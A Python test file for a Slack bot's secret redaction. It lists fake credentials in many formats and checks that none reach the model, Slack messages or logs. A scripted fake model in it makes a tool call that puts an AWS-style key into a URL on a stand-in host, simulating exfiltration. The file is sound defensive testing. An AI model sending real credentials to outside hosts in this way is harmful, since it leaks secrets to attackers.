"""Secrets that stand in what was read go no further: model, Slack, logs, progress (reliability 11)."""

from __future__ import annotations

import json
import logging

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.dev.model import ModelRequest, Reply, call, finish, text
from bot.dev.workspace import ADA
from bot.telemetry.logs import Handler
from bot.text.redaction import KINDS, redacted
from tests.security.model import file_id
from tests.support.deployment import deployed
from tests.support.runs import answer

SALES = "C0SALES001"
A1 = "Ab3dE6gH1jK4mN7pQ0sT"  # 20 of what tokens are made of
# In halves, so that nobody's scanner takes this file for a leak.
SECRETS = {
    "Slack bot": ("xox", f"b-123456789012-{A1}"),
    "Slack app": ("xap", f"p-1-A012345-{A1}"),
    "webhook": ("https://hooks.slack", f".com/services/T012345/B012345/{A1}"),
    "GitHub": ("gh", f"p_{A1}{A1[:16]}"),
    "GitHub, fine": ("github_", f"pat_{A1}{A1}{A1}"),
    "GitLab": ("glp", f"at-{A1}"),
    "AWS": ("AKI", "AIOSFODNN7EXAMPLE"),
    "OpenAI": ("sk", f"-proj-{A1}{A1}"),
    "Anthropic": ("sk", f"-ant-api03-{A1}{A1}"),
    "Google": ("AIz", f"a{A1}{A1[:15]}"),
    "Stripe": ("sk_", f"live_{A1}{A1[:4]}"),
    "SendGrid": ("SG.", f"{A1}Xy.{A1}{A1}Xyz"),
    "token": ("eyJhbGciOiJIUzI1NiJ9", f".eyJzdWIiOiIxMjM0NTY3ODkwIn0.{A1}"),
    "key": ("-----BEGIN RSA ", f"PRIVATE KEY-----\n{A1}\n{A1}\n-----END RSA PRIVATE KEY-----"),
    "address": ("postgresql://bot:", "hunter2secret@db.internal/x"),
    "header": ("Authorization: Bearer ", A1),
    "signed": ("https://x.example/f?X-Amz-Signature=", f"{A1}{A1}"),
    "setting": ("DB_PASSWORD=", "hunter2secret"),
    "JSON": ('{"api_key": "', 'hunter2secret"}'),
    "ticket": ("wss://wss-primary.slack.com/link/?ticket=", f"{A1}&app_id=x"),
}
HARMLESS = [
    "The password must have 12 characters, 1 digit among them.",
    "password: required; token: see the manual; secret = none",
    "Ask sk-learn-for-pipelines-and-transformers about basic responsibilities.",
    "https://example.com/a:b@c?page=2&key=name and ada@example.com:8080",
    "sha256 0123456789abcdef0123456789abcdef · run_7k2p · tbl_4f3a2b1c · 2026-11-21T09:00:00",
    'os.environ["OPENAI_API_KEY"] and password=${DB_PASSWORD} and password=<your-password-1>',
    "C0SALES001 U0ADA00001 1763712000.123456 -----BEGIN CERTIFICATE-----",
]


@pytest.mark.parametrize("kind", SECRETS)
def test_a_secret_is_replaced_and_said_to_be(kind):
    secret = "".join(SECRETS[kind])
    text = redacted(f"before {secret} after")
    assert "[redacted " in text
    assert SECRETS[kind][1].split("@")[0].split("&")[0].strip('"}') not in text
    assert A1 not in text
    assert text.startswith("before ")
    assert text.endswith(" after")


def test_half_a_surrogate_pair_hides_no_secret():
    """Nothing can encode it, and what looks for hints encodes the text."""
    assert A1 not in redacted(f"\ud83d {''.join(SECRETS['Slack bot'])}")


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_no_secret_stays(text):
    assert redacted(text) == text


@pytest.mark.parametrize("kind", KINDS)
@settings(max_examples=20)
@given(st.data())
def test_what_is_looked_for_first_is_in_every_secret_of_a_kind(kind, data):
    """A hint that a pattern can do without would let secrets through."""
    kind = KINDS[kind]
    found = data.draw(st.from_regex(kind.pattern, alphabet=st.characters(codec="ascii")))
    assert kind.is_hinted(found)


def test_in_a_long_text_too():
    """It is looked through in pieces, of which none ends within a secret, however long that is."""
    setting, key = "".join(SECRETS["setting"]), "".join(SECRETS["key"])
    text = "\n".join([setting, "x" * 10_000, key, f"password={A1 * 50}"] * 30)
    assert A1 not in redacted(text)
    assert redacted(text).count("[redacted ") == 90


def leaks(request: ModelRequest) -> Reply:
    """Reads the file, puts a secret into an argument and into what it says, and tells all."""
    outputs = [str(item["output"]) for item in request.items if "output" in item]
    steps = [
        call("acquire_tools", {"names": ["read_file", "fetch_page"], "search": None}),
        call("fetch_page", {"url": f"ftp://x.example/{''.join(SECRETS['AWS'])}", "query": None}),
        call("read_file", {"file_id": file_id(request), "sheet": None, "pages": None}),
    ]
    if len(outputs) < len(steps):
        return Reply(
            (
                *text(f"I see {''.join(SECRETS['Slack bot'])} there. ").items,
                *steps[len(outputs)].items,
            )
        )
    return finish(answer(f"It says {''.join(SECRETS['GitHub'])}", key_points=outputs))


async def test_secrets_reach_neither_model_nor_people_nor_logs(redis_url, caplog):
    """From a file that is read, an error, a title, what the person typed, and what the model says."""
    caplog.set_level(logging.INFO)
    secrets = {name: "".join(parts) for name, parts in SECRETS.items()}
    file = "\n".join(f"{name}: {secret} ." for name, secret in secrets.items()).encode()
    async with deployed(leaks, redis_url) as bot:
        ts = await bot.ask(ADA, SALES, f"What of {secrets['OpenAI']} ?", files=[("env.txt", file)])
        [said] = await bot.answered(SALES, ts)
        heard = json.dumps([r.body["input"] for r in bot.api.requests])
        shown = json.dumps([*bot.sent()])
    written = "\n".join(Handler().format(record) for record in caplog.records)
    assert "redacted GitHub token" in json.dumps(said)
    assert "redacted private key" in json.dumps(said)
    assert "redacted private key" in heard
    assert "redacted API key" in heard
    for secret in secrets.values():
        assert secret not in written
        assert json.dumps(secret)[1:-1] not in heard
        assert json.dumps(secret)[1:-1] not in shown
